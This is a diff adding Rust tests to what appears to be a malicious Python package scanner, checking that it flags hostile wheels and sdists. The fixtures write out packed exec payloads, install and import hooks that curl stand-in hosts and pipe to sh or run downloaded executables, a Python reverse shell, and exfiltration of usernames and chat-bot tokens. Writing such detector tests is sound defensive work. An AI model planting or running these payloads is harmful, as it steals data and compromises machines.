@@ -122,9 +122,131 @@ fn endpoint_and_request_in_different_files() {
 #[test]
 fn packed_payload_executed_in_setup() {
     let blob = "9".repeat(6000);
+    // Code built from character codes is decoding, whatever the line length.
     let setup = format!("from setuptools import setup\nP = [{blob}]\nexec(''.join(chr(c) for c in P))\nsetup(name='demo')\n");
+    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", &setup)]);
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    assert!(r.findings.iter().any(|f| f.rule == "py-decode-exec"), "{:#?}", r.findings);
+    assert_eq!(r.verdict, Verdict::Malicious);
+    // An unknown transformation of a packed blob, executed: the packing is the tell.
+    let setup = format!("from setuptools import setup\nfrom helpers import unpack\nP = [{blob}]\nexec(unpack(P))\nsetup(name='demo')\n");
     let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", &setup)]);
     let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
     assert!(r.findings.iter().any(|f| f.rule == "py-packed-exec"), "{:#?}", r.findings);
     assert_eq!(r.verdict, Verdict::Malicious);
+}
+
+fn rules_of(r: &palisade_scan::Report) -> Vec<&str> {
+    r.findings.iter().map(|f| f.rule.as_str()).collect()
+}
+
+#[test]
+fn import_runs_what_sibling_modules_do() {
+    // `__init__` calls a function it imports from a sibling module.
+    let init = "from .src_file import *\ninitialize()\n";
+    let src = "import getpass, requests\ndef initialize():\n    requests.post('https://example.invalid/c', data=getpass.getuser())\n";
+    let data = wheel(&[("demo/__init__.py", init), ("demo/src_file.py", src)]);
+    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    assert!(rules_of(&r).contains(&"py-import-exfil-hostinfo"), "{:#?}", r.findings);
+    // A module imported by `__init__` whose top level (a class body here) downloads and runs.
+    let init = "from demo import loader\n";
+    let loader =
+        "import subprocess\nclass Loader:\n    subprocess.Popen('curl https://example.invalid/x.exe -o x.exe && x.exe', shell=True)\n";
+    let data = wheel(&[("demo/__init__.py", init), ("demo/loader.py", loader)]);
+    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    let f = r.findings.iter().find(|f| f.rule == "py-import-download-exec").expect("reported");
+    assert_eq!(f.path, "demo/loader.py");
+    assert_ne!(r.verdict, Verdict::Clean);
+    // The same function, imported but not called at import, is library code.
+    let init = "from .src_file import initialize\n";
+    let data = wheel(&[("demo/__init__.py", init), ("demo/src_file.py", src)]);
+    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    assert!(!rules_of(&r).iter().any(|x| x.starts_with("py-import")), "{:#?}", r.findings);
+}
+
+#[test]
+fn setup_runs_the_helpers_it_imports() {
+    let setup = "from setuptools import setup\nfrom setuptools.command.install import install\nfrom pre_install import pre_install\nclass I(install):\n    def run(self):\n        pre_install()\n        install.run(self)\nsetup(name='demo', cmdclass={'install': I})\n";
+    let helper = "import subprocess\ndef pre_install():\n    c = 'curl -H \"Who: $(whoami)\" https://example.invalid/c'\n    subprocess.run(c, shell=True)\n";
+    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup), ("pre_install.py", helper)]);
+    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
+    assert!(rules_of(&r).contains(&"py-install-download-exec"), "{:#?}", r.findings);
+    assert_eq!(r.verdict, Verdict::Malicious);
+}
+
+#[test]
+fn chat_credentials_and_quoted_reverse_shells() {
+    // A ten-digit bot id (the current form) with its token, outside any URL.
+    let token = format!("TOKEN = '7123456789:AA{}'\n", "b".repeat(33));
+    let data = wheel(&[("demo/__init__.py", "X = 1\n"), ("demo/notify.py", &token)]);
+    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    assert!(rules_of(&r).contains(&"exfil-telegram-bot"), "{:#?}", r.findings);
+    // An order number with a colon is not a token.
+    let data = wheel(&[("demo/__init__.py", "ORDER = '7123456789:AB-1'\n")]);
+    assert!(!rules_of(&scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl")).contains(&"exfil-telegram-bot"));
+    // A reverse shell quoted inside another string.
+    let shell = "CMD = \"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\\\"203.0.113.5\\\",4444));os.dup2(s.fileno(),0);pty.spawn(\\'/bin/sh\\')'\"\n";
+    let data = wheel(&[("demo/__init__.py", "X = 1\n"), ("demo/tool.py", shell)]);
+    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    assert!(rules_of(&r).contains(&"dropper-reverse-shell"), "{:#?}", r.findings);
+}
+
+#[test]
+fn reports_do_not_depend_on_member_threads() {
+    let threaded = Scanner::new(ScanConfig { member_threads: 3, ..ScanConfig::default() }).unwrap();
+    let mut files: Vec<(String, String)> = (0..40).map(|i| (format!("demo/m{i}.py"), format!("import os\nX{i} = os.getcwd()\n"))).collect();
+    files.push(("demo/__init__.py".into(), "from .src_file import *\ninitialize()\n".into()));
+    files.push((
+        "demo/src_file.py".into(),
+        "import getpass, requests\ndef initialize():\n    requests.post('https://example.invalid/c', data=getpass.getuser())\n".into(),
+    ));
+    files.push((
+        "demo/hook.py".into(),
+        "TOKEN = 'https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGH'\n".into(),
+    ));
+    let refs: Vec<(&str, &str)> = files.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
+    let data = wheel(&refs);
+    let one = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    let many = threaded.scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    assert_ne!(one.verdict, Verdict::Clean);
+    assert_eq!(one.score, many.score);
+    assert_eq!(one.verdict, many.verdict);
+    let key = |r: &palisade_scan::Report| r.findings.iter().map(|f| (f.rule.clone(), f.path.clone(), f.line)).collect::<Vec<_>>();
+    assert_eq!(key(&one), key(&many));
+}
+
+#[test]
+fn hostile_files_stay_bounded() {
+    // One enormous line of a hundred thousand process calls, a constant repeated into a command
+    // line, a path repeated in a command, and a chain of wrappers longer than any fixed bound.
+    let calls = format!("import os\n{}\n", "os.system('x');".repeat(100_000));
+    let consts = format!("import os\na = '{}'\nos.system({})\n", "y".repeat(16_000), vec!["a"; 20_000].join("+"));
+    let paths = format!("import subprocess, requests\nrequests.get(U)\nopen('ab', 'w')\nsubprocess.Popen('{}')\n", "ab ".repeat(200_000));
+    let mut chain = String::from("import os\ndef f0():\n    os.system('curl https://example.invalid/x | sh')\n");
+    for i in 1..60 {
+        chain.push_str(&format!("def f{i}():\n    f{}()\n", i - 1));
+    }
+    chain.push_str("f59()\n");
+    let data = wheel(&[("demo/__init__.py", &chain), ("demo/a.py", &calls), ("demo/b.py", &consts), ("demo/c.py", &paths)]);
+    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+    assert!(r.complete);
+    assert!(r.findings.iter().all(|f| f.excerpt.chars().count() <= 201), "excerpts are clipped");
+    // The payload at the end of the wrapper chain still counts at import (one step less: reached through calls).
+    assert!(r.findings.iter().any(|f| f.rule == "py-import-download-exec" && f.path == "demo/__init__.py"), "{:#?}", r.findings);
+}
+
+#[test]
+fn payload_behind_a_large_test_suite_is_still_followed() {
+    // 300 KiB of honest tests use up the parse budget for test files; the module the package
+    // imports from tests/ is parsed all the same.
+    let filler = format!("import os\ndef test_x():\n    assert os.getcwd()\n{}\n", "# filler line of a long test module\n".repeat(3_000));
+    let mut files: Vec<(String, String)> = (0..3).map(|i| (format!("demo/tests/test_{i}.py"), filler.clone())).collect();
+    // Padded past what is left of the budget, so it is not parsed in the walk.
+    let helpers = format!("import subprocess\nsubprocess.Popen('curl https://example.invalid/x.sh | sh', shell=True)\n{filler}");
+    files.push(("demo/tests/helpers.py".into(), helpers));
+    files.push(("demo/__init__.py".into(), "from .tests import helpers\n".into()));
+    let refs: Vec<(&str, &str)> = files.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
+    let r = scanner().scan_bytes(&wheel(&refs), "demo-1.0-py3-none-any.whl");
+    assert!(r.findings.iter().any(|f| f.rule == "py-import-download-exec" && f.path == "demo/tests/helpers.py"), "{:#?}", r.findings);
+    assert_ne!(r.verdict, Verdict::Clean);
 }
